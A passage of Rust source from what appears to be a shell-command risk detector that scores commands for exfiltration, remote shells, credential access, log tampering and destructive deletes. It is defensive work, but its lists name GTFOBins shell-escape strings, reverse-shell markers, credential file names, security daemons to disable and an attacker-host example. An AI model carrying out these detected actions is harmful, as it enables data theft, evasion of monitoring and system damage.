                            self.script_code(&src, depth + 1, c);
                        }
                    } else {
                        self.code(n, code, depth + 1, c);
                    }
                    i += 1;
                }
            } else if t.starts_with("-c") && is_python(n) && t.len() > 2 {
                let src = w.sub_src(2, w.text.len());
                self.script_code(&src, depth + 1, c);
            }
            i += 1;
        }
        // A downloaded file run by the interpreter.
        for w in c.positionals() {
            if self.is_download(&w.text) {
                self.add((Category::DownloadExecute, "downloaded_file_executed", 85), c.span());
            }
        }
    }

    fn is_download(&self, path: &str) -> bool {
        let p = paths::normalise(path);
        let base = paths::basename(&p).to_owned();
        !base.is_empty()
            && self.downloads.iter().any(|(full, b)| {
                *full == p
                    || (*b == base
                        && (p == base
                            || p.starts_with("/tmp")
                            || p.starts_with("/dev/shm")
                            || p.starts_with("/var/tmp")
                            || full.ends_with(&p)))
            })
    }

    fn downloaded_run(&mut self, c: &Cmd<'_>) {
        let Some(w) = c.word else { return };
        if self.is_download(&w.text) {
            self.add(
                (Category::DownloadExecute, "downloaded_file_executed", 85),
                Span::new(w.span.start, c.span().end.max(w.span.end)),
            );
        }
    }

    fn rm(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let recursive = c.has_flag('r', "recursive") || c.has_flag('R', "") || c.name == "rmdir";
        let no_preserve = c.has_arg("--no-preserve-root");
        for w in c.positionals() {
            let t = w.text.as_str();
            if let Some(cl) = paths::classify_write(t).filter(|cl| cl.0 == DefenseEvasion) {
                self.add(cl, w.span);
                continue;
            }
            if t.contains("/var/log") {
                self.add((DefenseEvasion, "log_tampering", 70), w.span);
                continue;
            }
            match paths::critical_delete_target(t) {
                Some(score) if recursive || no_preserve => {
                    self.add((Destructive, "recursive_delete_critical", score), c.span())
                }
                Some(score) if score >= 95 && t.ends_with('*') => {
                    self.add((Destructive, "recursive_delete_critical", 80), c.span())
                }
                _ => {
                    if let Some(cl) = paths::classify_write(t).filter(|cl| cl.0 != DefenseEvasion) {
                        let rule = if cl.0 == Persistence { "startup_file_deleted" } else { "critical_file_deleted" };
                        self.add((Destructive, rule, 60), w.span);
                    }
                }
            }
        }
        if no_preserve {
            self.add((Destructive, "recursive_delete_critical", 95), c.span());
        }
    }

    fn find(&mut self, c: &Cmd<'_>, depth: usize) {
        use Category::*;
        let roots: Vec<&Word> =
            c.args.iter().copied().take_while(|w| !w.text.starts_with('-') && w.text != "(" && w.text != "!").collect();
        let broad = roots.iter().any(|w| paths::is_broad_location(&w.text) || w.text == "/");
        let critical = roots.iter().any(|w| paths::critical_delete_target(&w.text).is_some_and(|s| s >= 80));
        let texts: Vec<&str> = c.arg_texts().collect();
        let deletes = texts.contains(&"-delete")
            || texts.windows(2).any(|p| {
                (p.first() == Some(&"-exec") || p.first() == Some(&"-execdir"))
                    && p.get(1).is_some_and(|t| ["rm", "shred", "/bin/rm"].contains(t))
            });
        if deletes && critical {
            self.add((Destructive, "recursive_delete_critical", 85), c.span());
        }
        for (i, t) in texts.iter().enumerate() {
            if ["-name", "-iname", "-path", "-ipath", "-regex", "-wholename"].contains(t)
                && let Some(pat) = texts.get(i + 1)
                && credential_name_pattern(pat)
            {
                self.add((CredentialAccess, "credential_search", if broad { 70 } else { 40 }), c.span());
            }
            if *t == "-perm"
                && texts.get(i + 1).is_some_and(|p| {
                    p.contains("4000")
                        || p.contains("u=s")
                        || p.contains("u+s")
                        || p.contains("2000")
                        || p.contains("6000")
                })
            {
                self.add((PrivilegeEscalation, "suid_search", 55), c.span());
            }
            if (*t == "-exec" || *t == "-execdir" || *t == "-ok")
                && texts.get(i + 1).is_some_and(|x| SHELLS.contains(&lc_basename(x).as_str()))
            {
                let score = if c.sudo || texts.contains(&"-p") { 80 } else { 50 };
                self.add((PrivilegeEscalation, "find_exec_shell", score), c.span());
            }
        }
        // `-exec sh -c '…' \;` bodies.
        let mut i = 0;
        while let Some(w) = c.args.get(i) {
            if w.text == "-c"
                && let Some(code) = c.args.get(i + 1)
            {
                self.code("sh", code, depth + 1, c);
            }
            i += 1;
        }
    }

    fn git(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let pos = c.positionals();
        let Some(sub) = pos.first().map(|w| w.text.as_str()) else { return };
        if sub != "push" {
            return;
        }
        let force = c.has_flag('f', "force") || c.has_arg("--mirror") || pos.iter().any(|w| w.text.starts_with('+'));
        let delete = c.has_flag('d', "delete") || pos.iter().any(|w| w.text.starts_with(':'));
        let protected = |t: &str| {
            let branch =
                t.trim_start_matches('+').rsplit(':').next().unwrap_or_default().trim_start_matches("refs/heads/");
            ["main", "master", "production", "prod", "release", "trunk", "develop"].contains(&branch)
        };
        let targets_protected = pos.iter().skip(1).any(|w| protected(&w.text));
        if (force || delete) && targets_protected {
            self.add((Destructive, "force_push_protected_branch", 80), c.span());
        } else if c.has_arg("--mirror") || (force && pos.len() <= 2 && !c.has_arg("--force-with-lease")) {
            self.add((Destructive, "force_push", 45), c.span());
        }
    }

    fn chmod(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let ops = operands(&c.args, "", &["reference"]);
        let Some(mode) = ops.first().map(|w| w.text.as_str()) else { return };
        let files: Vec<&Word> = ops.iter().skip(1).copied().collect();
        let setuid = mode.contains("+s")
            || mode.contains("u+s")
            || mode.contains("g+s")
            || (mode.len() == 4
                && mode.bytes().all(|b| b.is_ascii_digit())
                && matches!(mode.as_bytes().first(), Some(b'2' | b'4' | b'6' | b'7')));
        if setuid {
            self.add((PrivilegeEscalation, "setuid_bit", 85), c.span());
        }
        let open = ["777", "0777", "666", "a+rwx", "o+w", "a+w", "ugo+rwx", "000", "0000"].contains(&mode);
        if open
            && c.has_flag('R', "recursive")
            && files.iter().any(|w| paths::critical_delete_target(&w.text).is_some_and(|s| s >= 80))
        {
            self.add((Destructive, "recursive_chmod_system", 85), c.span());
        } else if open
            && files.iter().any(|w| {
                paths::classify_write(&w.text).is_some_and(|cl| cl.0 == PrivilegeEscalation)
                    || paths::is_sensitive(&w.text)
            })
        {
            self.add((PrivilegeEscalation, "sensitive_file_permissions", 75), c.span());
        }
        let exec = mode.contains("+x")
            || mode.bytes().all(|b| b.is_ascii_digit()) && mode.bytes().last().is_some_and(|b| b == b'5' || b == b'7');
        if exec {
            for w in &files {
                if self.is_download(&w.text) {
                    self.add((DownloadExecute, "downloaded_file_made_executable", 70), c.span());
                }
            }
        }
    }

    fn services(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let n = c.name.as_str();
        let texts: Vec<&str> = c.arg_texts().collect();
        let stop = texts.iter().any(|t| ["stop", "disable", "mask", "kill", "unload", "bootout"].contains(t));
        if stop && texts.iter().any(|t| security_process(t)) {
            self.add((DefenseEvasion, "security_service_stopped", 75), c.span());
            return;
        }
        if n == "systemctl" && texts.iter().any(|t| ["poweroff", "reboot", "halt", "kexec"].contains(t)) {
            self.add((Destructive, "system_shutdown", 55), c.span());
        }
        let enable = match n {
            "launchctl" => texts.iter().any(|t| ["load", "bootstrap", "submit", "enable"].contains(t)),
            "update-rc.d" => texts.iter().any(|t| *t == "defaults" || *t == "enable"),
            "chkconfig" => texts.iter().any(|t| *t == "on" || *t == "--add"),
            "rc-service" | "service" => false,
            _ => texts.iter().any(|t| *t == "enable" || *t == "link"),
        };
        if enable {
            let score = if self.wrote_service
                || n == "launchctl" && texts.iter().any(|t| t.contains("launchagents") || t.contains("LaunchAgents"))
            {
                80
            } else {
                45
            };
            self.add((Persistence, "service_enabled", score), c.span());
        }
    }

    fn container(&mut self, c: &Cmd<'_>, depth: usize) {
        use Category::*;
        let pos = c.positionals();
        let sub = pos.first().map(|w| w.text.as_str()).unwrap_or_default();
        if !["run", "create", "exec", "container"].contains(&sub) {
            return;
        }
        if c.has_arg("--privileged") {
            self.add((PrivilegeEscalation, "privileged_container", 80), c.span());
        }
        let vols = opt_values(&c.args, &['v'], &["volume", "mount"], "ewpuhlcm");
        for (w, v) in &vols {
            let host = if v.contains("source=") || v.contains("src=") {
                v.split(',')
                    .find_map(|kv| kv.strip_prefix("source=").or_else(|| kv.strip_prefix("src=")))
                    .unwrap_or_default()
                    .to_owned()
            } else {
                v.split(':').next().unwrap_or_default().to_owned()
            };
            let h = paths::normalise(&host);
            let h = h.trim_end_matches('/');
            if h.is_empty() && host.starts_with('/')
                || [
                    "/etc",
                    "/root",
                    "/var/run/docker.sock",
                    "/run/docker.sock",
                    "/home",
                    "/boot",
                    "/dev",
                    "/proc",
                    "/sys",
                    "/var/lib/docker",
                    "~",
                    "~/.ssh",
                ]
                .contains(&h)
            {
                self.add((PrivilegeEscalation, "container_host_mount", 80), w.span);
            }
        }
        let pid_host = opt_values(&c.args, &[], &["pid", "ipc", "uts", "userns"], "").iter().any(|(_, v)| v == "host");
        if pid_host {
            self.add((PrivilegeEscalation, "container_host_namespace", 70), c.span());
        }
        if opt_values(&c.args, &[], &["cap-add"], "").iter().any(|(_, v)| {
            ["SYS_ADMIN", "ALL", "SYS_PTRACE", "SYS_MODULE", "DAC_READ_SEARCH"]
                .contains(&v.to_ascii_uppercase().as_str())
        }) {
            self.add((PrivilegeEscalation, "container_capability", 75), c.span());
        }
        // The command run inside: after the image for `run`, after the container for `exec`.
        let inner = operands(
            &c.args,
            "ewpuvhlcm",
            &[
                "env",
                "workdir",
                "publish",
                "user",
                "volume",
                "hostname",
                "label",
                "cpu-shares",
                "memory",
                "name",
                "network",
                "net",
                "entrypoint",
                "mount",
                "env-file",
                "pid",
                "ipc",
                "uts",
                "cap-add",
                "cap-drop",
                "platform",
                "restart",
                "device",
                "add-host",
                "dns",
                "log-driver",
                "runtime",
                "security-opt",
                "ulimit",
                "tmpfs",
                "gpus",
                "shm-size",
                "stop-signal",
                "health-cmd",
                "userns",
            ],
        );
        let skip = if sub == "container" { 3 } else { 2 };
        let rest: Vec<&Word> = inner.into_iter().skip(skip).collect();
        self.inner_command(&rest, depth, c);
    }

    fn kubectl(&mut self, c: &Cmd<'_>, depth: usize) {
        use Category::*;
        let pos = c.positionals();
        let sub = pos.first().map(|w| w.text.as_str()).unwrap_or_default();
        let texts: Vec<&str> = c.arg_texts().collect();
        match sub {
            "delete" => {
                let wide = c.has_arg("--all")
                    || c.has_flag('A', "all-namespaces")
                    || pos.get(1).is_some_and(|w| {
                        ["ns", "namespace", "namespaces", "pv", "pvc", "node", "nodes", "crd"]
                            .contains(&w.text.as_str())
                    });
                if wide {
                    self.add((Destructive, "cluster_resources_deleted", 70), c.span());
                }
            }
            "get" | "describe" => {
                let secret = pos.get(1).is_some_and(|w| w.text.starts_with("secret"));
                let dumped = texts.iter().any(|t| {
                    t.starts_with("-o")
                        || t.starts_with("--output")
                        || *t == "yaml"
                        || *t == "json"
                        || t.contains("jsonpath")
                });
                if secret && dumped {
                    self.add((CredentialAccess, "cluster_secret_read", 60), c.span());
                }
            }
            "config" if c.has_arg("--raw") => {
                self.add((CredentialAccess, "kubeconfig_read", 65), c.span());
            }
            "exec" => {
                if let Some(i) = c.args.iter().position(|w| w.text == "--") {
                    let rest: Vec<&Word> = c.args.iter().skip(i + 1).copied().collect();
                    self.inner_command(&rest, depth, c);
                }
            }
            _ => {}
        }
    }

    /// A command given as separate words (`docker run img CMD…`, `kubectl exec -- CMD…`, `ssh host CMD…`).
    fn inner_command(&mut self, words: &[&Word], depth: usize, c: &Cmd<'_>) {
        match words {
            [] => {}
            [one] => self.code("sh", one, depth + 1, c),
            [first, .., last] => {
                // Re-quote each word so that the inner parse sees the same words.
                let mut text = String::new();
                for w in words {
                    if !text.is_empty() {
                        text.push(' ');
                    }
                    text.push('\'');
                    text.push_str(&w.text.replace('\'', "'\\''"));
                    text.push('\'');
                }
                let src = Src::opaque(text, Span::new(first.span.start, last.span.end));
                self.source(&src, depth + 1);
            }
        }
    }

    fn aws(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let pos: Vec<&str> = c.positionals().iter().map(|w| w.text.as_str()).collect();
        let (svc, op) = (pos.first().copied().unwrap_or_default(), pos.get(1).copied().unwrap_or_default());
        match (svc, op) {
            ("s3", "rb") if c.has_arg("--force") => self.add((Destructive, "bucket_destroyed", 75), c.span()),
            ("s3", "rm") if c.has_arg("--recursive") => self.add((Destructive, "bucket_destroyed", 70), c.span()),
            ("s3", "cp" | "sync" | "mv") => self.upload(c),
            ("secretsmanager", "get-secret-value")
            | ("ssm", "get-parameter" | "get-parameters" | "get-parameters-by-path")
                if svc == "secretsmanager" || c.has_arg("--with-decryption") =>
            {
                self.add((CredentialAccess, "cloud_secret_read", 55), c.span());
            }
            ("configure", "get") if pos.get(2).is_some_and(|k| k.contains("secret") || k.contains("key")) => {
                self.add((CredentialAccess, "cloud_credentials_print", 70), c.span())
            }
            ("configure", "export-credentials") => {
                self.add((CredentialAccess, "cloud_credentials_print", 70), c.span())
            }
            ("iam", "create-access-key" | "create-login-profile") => {
                self.add((Persistence, "cloud_credentials_created", 60), c.span())
            }
            ("cloudtrail", "stop-logging" | "delete-trail") | ("guardduty", "delete-detector") => {
                self.add((DefenseEvasion, "cloud_logging_disabled", 80), c.span())
            }
            _ => {}
        }
    }

    fn cloud_cli(&mut self, c: &Cmd<'_>) {
        use Category::*;
        if let Some(rule) = token_print(c) {
            self.add((CredentialAccess, rule, 45), c.span());
        }
        let pos: Vec<&str> = c.positionals().iter().map(|w| w.text.as_str()).collect();
        match (c.name.as_str(), pos.as_slice()) {
            ("gcloud", ["projects", "delete", ..])
            | ("az", ["group", "delete", ..])
            | ("gh", ["repo", "delete", ..]) => self.add((Destructive, "cloud_resource_deleted", 75), c.span()),
            ("gcloud", ["secrets", "versions", "access", ..])
            | ("az", ["keyvault", "secret", "show", ..])
            | ("vault", ["kv", "get", ..])
            | ("vault", ["read", ..]) => self.add((CredentialAccess, "cloud_secret_read", 55), c.span()),
            ("gcloud", ["logging", "sinks", "delete", ..]) => {
                self.add((DefenseEvasion, "cloud_logging_disabled", 70), c.span())
            }
            _ => {}
        }
    }

    fn grep(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let recursive = c.name == "rg"
            || c.name == "ag"
            || c.name == "ack"
            || c.has_flag('r', "recursive")
            || c.has_flag('R', "dereference-recursive");
        let ops = operands(
            &c.args,
            "efABCmdD",
            &[
                "regexp",
                "file",
                "after-context",
                "before-context",
                "context",
                "max-count",
                "include",
                "exclude",
                "glob",
            ],
        );
        let pattern = opt_values(&c.args, &['e'], &["regexp"], "fABCmdDg")
            .into_iter()
            .map(|(_, v)| v)
            .next()
            .or_else(|| ops.first().map(|w| w.text.clone()))
            .unwrap_or_default();
        let secretish = {
            let p = pattern.to_ascii_lowercase();
            [
                "password",
                "passwd",
                "secret",
                "api_key",
                "apikey",
                "api-key",
                "token",
                "aws_secret",
                "private key",
                "begin rsa",
                "begin openssh",
                "akia",
                "credential",
            ]
            .iter()
            .any(|m| p.contains(m))
        };
        let roots: Vec<&Word> = ops.iter().skip(1).copied().collect();
        let broad = roots.iter().any(|w| paths::is_broad_location(&w.text) || w.text == "/");
        if recursive && secretish && broad {
            self.add((CredentialAccess, "credential_search", 65), c.span());
        }
    }

    fn downloader(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let n = c.name.as_str();
        let urls: Vec<&Word> =
            c.args.iter().copied().filter(|w| paths::looks_like_url(&w.text) && !w.text.starts_with('@')).collect();
        for w in &urls {
            for cl in paths::classify_url(&w.text) {
                self.add(cl, w.span);
            }
            // Data smuggled out in the URL itself: `?d=$(cat file | base64)`.
            if w.subs.iter().any(script_reads_files) {
                self.add((Exfiltration, "data_in_url", 75), w.span);
            }
        }
        // Uploads.
        let uploads = upload_values(c);
        let catcher = urls.iter().any(|w| paths::classify_url(&w.text).iter().any(|cl| cl.2 >= 55));
        for (w, path, _) in &uploads {
            if path == "-" || path == "." {
                continue;
            }
            let sens = paths::is_sensitive(path) || path.contains("/etc/passwd");
            let score = if sens {
                90
            } else if catcher || paths::is_broad_location(path) {
                75
            } else {
                60
            };
            self.add((Exfiltration, "file_upload", score), Span::new(c.span().start.min(w.span.start), w.span.end));
        }
        if n == "wget" || n == "wget2" {
            for (w, v) in opt_values(&c.args, &[], &["post-file", "body-file"], "") {
                let sens = paths::is_sensitive(&v) || v.contains("/etc/passwd");
                self.add((Exfiltration, "file_upload", if sens { 90 } else { 60 }), w.span);
            }
        }
        // Data arguments that embed file contents by substitution: `-d "$(cat ~/.netrc)"`.
        for (w, _) in opt_values(
            &c.args,
            &['d', 'F'],
            &["data", "data-binary", "data-raw", "data-urlencode", "form", "json", "post-data"],
            "",
        ) {
            if w.subs.iter().any(script_reads_files) {
                self.add((Exfiltration, "file_contents_posted", 75), w.span);
            }
        }
        // Downloads to a file, remembered for `chmod +x` / run later in the script.
        let mut outs: Vec<String> =
            opt_values(&c.args, &['o', 'O'], &["output", "output-document"], "dFTXHuAexbcKmwrECUYyzQtP")
                .into_iter()
                .map(|(_, v)| v)
                .filter(|v| v != "-")
                .collect();
        let remote_name = (n == "curl" && (c.has_flag('O', "remote-name") || c.has_arg("--remote-name-all")))
            || (n == "wget" && opt_values(&c.args, &['O'], &["output-document"], "").is_empty())
            || n == "fetch" && outs.is_empty();
        if remote_name {
            for w in &urls {
                let path = w.text.split(['?', '#']).next().unwrap_or_default();
                let path = path.split_once("://").map_or(path, |(_, r)| r);
                if let Some((_, file)) = path.rsplit_once('/')
                    && !file.is_empty()
                {
                    outs.push(file.to_owned());
                }
            }
        }
        for r in &c.simple.redirs {
            if r.op.writes()
                && r.fd.is_none_or(|fd| fd == 1)
                && let Some(t) = &r.target
            {
                outs.push(t.text.clone());
            }
        }
        for o in outs {
            let p = paths::normalise(&o);
            let b = paths::basename(&p).to_owned();
            self.downloads.push((p, b));
        }
    }

    fn raw_net(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let n = c.name.as_str();
        let texts: Vec<String> = c.arg_texts().map(str::to_ascii_lowercase).collect();
        if n == "socat" {
            let exec = texts.iter().any(|t| t.starts_with("exec:") || t.starts_with("system:") || t.contains(",exec:"));
            let net = texts.iter().any(|t| {
                t.starts_with("tcp")
                    || t.starts_with("udp")
                    || t.starts_with("openssl")
                    || t.starts_with("ssl")
                    || t.contains("-listen")
            });
            if exec && net {
                self.add((RemoteShell, "socat_exec", 95), c.span());
            } else if net && texts.iter().any(|t| t.starts_with("file:") || t.starts_with("open:")) {
                self.add((Exfiltration, "socat_file_transfer", 60), c.span());
            }
            return;
        }
        let exec = texts.iter().any(|t| {
            ["-e", "-c", "--exec", "--sh-exec", "--lua-exec"].contains(&t.as_str())
                || t.starts_with("--exec=")
                || t.starts_with("--sh-exec=")
                || (t.starts_with('-') && !t.starts_with("--") && t.ends_with('e') && t.len() <= 6 && t.contains('e'))
        });
        if exec && n != "telnet" {
            self.add((RemoteShell, "netcat_exec", 95), c.span());
            return;
        }
        for r in c.simple.redirs.iter().filter(|r| r.op == RedirOp::In) {
            if let Some(t) = &r.target {
                let sens = paths::is_sensitive(&t.text) || t.text.contains("/etc/passwd");
                self.add((Exfiltration, "netcat_file_send", if sens { 90 } else { 75 }), c.span());
            }
        }
    }

    fn ssh(&mut self, c: &Cmd<'_>, depth: usize) {
        use Category::*;
        let ops = operands(&c.args, "bcDEeFIiJLlmOopQRSWw", &[]);
        let host = ops.first().map(|w| w.text.clone()).unwrap_or_default();
        let (_, h) = paths::url_host(&format!("ssh://{host}"));
        let reverse = opt_values(&c.args, &['R'], &[], "bcDEeFIiJLlmOopQSWw");
        if !reverse.is_empty() {
            let score = if paths::is_tunnel_host(&h) { 80 } else { 60 };
            self.add((RemoteShell, "reverse_tunnel", score), c.span());
        } else if paths::is_tunnel_host(&h) {
            self.add((RemoteShell, "tunnel_service", 70), c.span());
        }
        let rest: Vec<&Word> = ops.iter().skip(1).copied().collect();
        self.inner_command(&rest, depth, c);
        for r in c.simple.redirs.iter().filter(|r| r.op == RedirOp::In) {
            if let Some(t) = &r.target {
                let sens = paths::is_sensitive(&t.text);
                self.add((Exfiltration, "ssh_file_send", if sens { 90 } else { 45 }), c.span());
            }
        }
    }

    /// scp / rsync / rclone / aws s3 cp / gsutil …: local sources to a remote destination.
    fn upload(&mut self, c: &Cmd<'_>) {
        use Category::*;
        let mut ops: Vec<&Word> = operands(
            &c.args,
            "PiFoSlcJeB",
            &[
                "exclude",
                "include",
                "rsh",
                "profile",
                "region",
                "storage-class",
                "acl",
                "config",
                "transfers",
                "bwlimit",
                "exclude-from",
                "include-from",
                "filter",
                "port",
            ],
        );
        if c.name == "aws" || c.name == "gsutil" || c.name == "rclone" || c.name == "s3cmd" || c.name == "azcopy" {
            // Skip the subcommand words (`s3 cp`, `cp`, `copy`, `sync`).
            let skip = if c.name == "aws" { 2 } else { 1 };
            ops = ops.into_iter().skip(skip).collect();
        }
        let Some((dest, sources)) = ops.split_last() else { return };
        if !is_remote_path(&dest.text) || sources.is_empty() || sources.iter().all(|w| is_remote_path(&w.text)) {
            return;
        }
        let sens = sources.iter().any(|w| paths::is_sensitive(&w.text));
        let broad = sources.iter().any(|w| paths::is_broad_location(&w.text));
        let (_, host) = paths::url_host(&dest.text);
        let raw_ip = paths::is_public_ip(&host) == Some(true);
        let score = if sens {
            90
        } else if broad {
            70
        } else if raw_ip {
            50
        } else {
            30
        };
        self.add((Exfiltration, "remote_copy", score), c.span());
    }

    fn database(&mut self, c: &Cmd<'_>) {
        let sql: Vec<String> =
            opt_values(&c.args, &['c', 'e'], &["command", "execute", "eval", "query"], "hUpdPuWSDEJfFoT")
                .into_iter()
                .map(|(_, v)| v)
                .collect();
        let mut text = sql.join(" ");
        if c.name == "sqlite3" || c.name == "redis-cli" {
            text.push(' ');
            text.push_str(&operands(&c.args, "hpan", &[]).iter().map(|w| w.text.clone()).collect::<Vec<_>>().join(" "));
        }
        for r in &c.simple.redirs {
            if let Some(b) = r.body.as_ref().or(if r.op == RedirOp::HereString { r.target.as_ref() } else { None }) {
                text.push(' ');
                text.push_str(&b.text);
            }
        }
        if let Some(cl) = sql_danger(&text) {
            self.add(cl, c.span());
        }
    }
}

/// Commands that take paths without revealing their contents.
const NON_READERS: &[&str] = &[
    "ls",
    "stat",
    "test",
    "[",
    "[[",
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "lsattr",
    "ssh",
    "ssh-add",
    "ssh-keygen",
    "ssh-copy-id",
    "mkdir",
    "touch",
    "rm",
    "unlink",
    "shred",
    "mv",
    "ln",
    "realpath",
    "readlink",
    "dirname",
    "basename",
    "echo",
    "printf",
    "git",
    "docker",
    "podman",
    "source",
    ".",
    "export",
    "unset",
    "cd",
    "pushd",
    "type",
    "which",
    "hash",
    "tee",
    "truncate",
    "dd",
    "kubectl",
    "helm",
    "terraform",
    "gcloud",
    "az",
    "gh",
    "npm",
    "cargo",
    "pip",
    "du",
    "wc",
    "file",
    "touch",
    "install",
    "find",
    "ssh-agent",
    "gpg-agent",
    "chmod",
    "sops",
    "direnv",
    "dotenv",
    "set",
    "rsync",
    "scp",
];

fn arg_paths(t: &str) -> Vec<String> {
    let mut out = Vec::new();
    let t = t.trim();
    if t.is_empty() {
        return out;
    }
    out.push(t.to_owned());
    if let Some(r) = t.strip_prefix('@') {
        out.push(r.to_owned());
    }
    if let Some((_, v)) = t.split_once('=') {
        out.push(v.trim_start_matches(['@', '<']).to_owned());
    }
    if let Some((_, v)) = t.split_once(':')
        && !t.contains("://")
    {
        out.push(v.to_owned());
    }
    out
}

/// `(word, path, form)` for each file a curl-like command uploads: `-d @f`, `-F x=@f`, `-T f`, `--upload-file f`.
fn upload_values<'a>(c: &Cmd<'a>) -> Vec<(&'a Word, String, &'static str)> {
    let mut out = Vec::new();
    let vs = "dFTXHuAexbcKmwrECUYyzQtPo";
    for (w, v) in opt_values(&c.args, &['d'], &["data", "data-binary", "data-urlencode", "data-ascii", "json"], vs) {
        if let Some(p) = v.strip_prefix('@') {
            out.push((w, p.to_owned(), "data"));
        }
    }
    for (w, v) in opt_values(&c.args, &['F'], &["form"], vs) {
        if let Some((_, p)) = v.split_once("=@").or_else(|| v.split_once("=<")) {
            out.push((w, p.split(';').next().unwrap_or_default().to_owned(), "form"));
        }
    }
    for (w, v) in opt_values(&c.args, &['T'], &["upload-file"], vs) {
        out.push((w, v, "upload"));
    }
    out
}

fn is_remote_path(t: &str) -> bool {
    if t.contains("://") {
        return true;
    }
    if t.starts_with('/') || t.starts_with('.') || t.starts_with('~') {
        return false;
    }
    // host:path, user@host:path, remote:path (rclone)
    t.split_once(':').is_some_and(|(h, _)| {
        !h.is_empty() && !h.contains('/') && h.bytes().all(|b| b.is_ascii_alphanumeric() || b"@.-_".contains(&b))
    })
}

fn token_print(c: &Cmd<'_>) -> Option<&'static str> {
    let pos: Vec<&str> = c.positionals().iter().map(|w| w.text.as_str()).collect();
    match (c.name.as_str(), pos.as_slice()) {
        ("gcloud", ["auth", "print-access-token" | "print-identity-token", ..])
        | ("gcloud", ["auth", "application-default", "print-access-token", ..]) => Some("cloud_token_print"),
        ("az", ["account", "get-access-token", ..]) => Some("cloud_token_print"),
        ("gh", ["auth", "token", ..]) => Some("cloud_token_print"),
        ("aws", ["sts", "get-session-token", ..]) | ("aws", ["ecr", "get-login-password", ..]) => {
            Some("cloud_token_print")
        }
        ("vault", ["print", "token", ..]) => Some("cloud_token_print"),
        _ => None,
    }
}

fn admin_group(g: &str) -> bool {
    ["sudo", "wheel", "admin", "root", "adm", "docker", "lxd", "disk", "shadow"].contains(&g)
}

fn security_process(t: &str) -> bool {
    let l = t.to_ascii_lowercase();
    let l = l.trim_end_matches(".service");
    [
        "auditd",
        "falcon-sensor",
        "falcond",
        "crowdstrike",
        "osqueryd",
        "wazuh-agent",
        "ossec",
        "clamav",
        "clamd",
        "firewalld",
        "ufw",
        "apparmor",
        "selinux",
        "sysmon",
        "carbonblack",
        "cbagentd",
        "sentinelone",
        "sentineld",
        "cylancesvc",
        "mdatp",
        "wdavdaemon",
        "aide",
        "tripwire",
        "rsyslog",
        "syslog-ng",
        "systemd-journald",
        "journald",
        "fail2ban",
        "snort",
        "suricata",
        "elastic-agent",
        "filebeat",
        "auditbeat",
        "iptables",
        "nftables",
        "xprotect",
        "santa",
        "santad",
        "syslogd",
    ]
    .contains(&l)
}

/// A hostname built from a variable or a substitution followed by a domain (`$(whoami).evil.com`).
fn dynamic_hostname(w: &Word) -> bool {
    let t = w.text.as_str();
    if w.text.starts_with('-') {
        return false;
    }
    let dyn_part = t.contains("$(") || t.contains('`') || t.contains("${") || t.contains('$');
    let Some(last_dollar) = t.rfind([')', '`', '}']).or_else(|| t.find('$')) else { return false };
    let rest = t.get(last_dollar..).unwrap_or_default();
    dyn_part && rest.contains('.') && t.split('.').filter(|l| !l.is_empty()).count() >= 3
}

fn credential_name_pattern(p: &str) -> bool {
    let l = p.to_ascii_lowercase();
    let l = l.trim_matches(['"', '\'', '*']);
    [
        "id_rsa",
        "id_dsa",
        "id_ecdsa",
        "id_ed25519",
        ".pem",
        ".key",
        ".kdbx",
        ".env",
        "credentials",
        ".netrc",
        "wallet.dat",
        ".ppk",
        ".p12",
        ".pfx",
        ".keychain",
        "password",
        "passwd",
        "secret",
        "shadow",
        ".git-credentials",
        "authorized_keys",
        ".pgpass",
        "token",
    ]
    .iter()
    .any(|m| l.contains(m))
}

/// Arguments that, given to `sudo <program>`, spawn a root shell (GTFOBins).
fn spawns_shell(t: &str) -> bool {
    let l = t.to_ascii_lowercase();
    [
        "!/bin/sh",
        "!/bin/bash",
        "!sh",
        "!bash",
        "exec=/bin/sh",
        "exec=sh",
        "exec=/bin/bash",
        "system(\"/bin/sh",
        "system(\"/bin/bash",
        "system('/bin/sh",
        "system('/bin/bash",
        "system(\"sh",
        "exec \"/bin/sh",
        "exec('/bin/sh",
        "exec(\"/bin/sh",
        "pty.spawn",
        "/bin/sh -p",
        "--interactive",
    ]
    .iter()
    .any(|m| l.contains(m))
        || l == "/bin/sh"
        || l == "/bin/bash"
}

/// Score for content written to a shell startup file: 0 for ordinary setup, high for hooks that fetch or
/// connect, medium when unknown.
fn startup_content_score(content: &str) -> u8 {
    let l = content.to_ascii_lowercase();
    let bad = [
        "curl",
        "wget",
        "/dev/tcp",
        "nc ",
        "ncat",
        "socat",
        "base64",
        "nohup",
        "/tmp/",
        "/dev/shm",
        "python -c",
        "python3 -c",
        "perl -e",
        "bash -i",
        "sh -i",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "&>/dev/null &",
        " &",
        "eval $(echo",
        "ld_preload",
        "alias sudo",
        "alias ssh",
    ]
    .iter()
    .any(|m| l.contains(m));
    if bad {
        return 85;
    }
    if l.contains("<unknown>") || l.trim().is_empty() {
        return 60;
    }
    let benign = l.split(['\n', ';']).map(str::trim).filter(|s| !s.is_empty()).all(|s| {
        [
            "export ",
            "alias ",
            "source ",
            ". ",
            "eval \"$(",
            "eval $(",
            "path=",
            "set -o",
            "shopt ",
            "ulimit ",
            "umask ",
            "#",
            "bind ",
            "complete ",
            "fpath=",
            "zstyle",
            "autoload",
            "setopt",
            "[ -f",
            "[[ -f",
            "if ",
            "fi",
            "then",
            "plugins=",
            "theme=",
            "zsh_theme",
        ]
        .iter()
        .any(|p| s.starts_with(p))
            || shell::is_assignment(s.split_whitespace().next().unwrap_or_default())
    });
    if benign { 35 } else { 60 }
}

fn sql_danger(text: &str) -> Option<Class> {
    use Category::Destructive as D;
    let l = text.to_ascii_lowercase();
    let norm: String = l.split_whitespace().collect::<Vec<_>>().join(" ");
    if [
        "drop database",
        "drop schema",
        "drop table",
        "drop user",
        "truncate table",
        "drop keyspace",
        "dropdatabase()",
        "db.dropdatabase",
        ".drop()",
    ]
    .iter()
    .any(|m| norm.contains(m))
    {
        return Some((D, "sql_drop", 85));
    }
    if norm.contains("flushall") || norm.contains("flushdb") {
        return Some((D, "datastore_flushed", 80));
    }
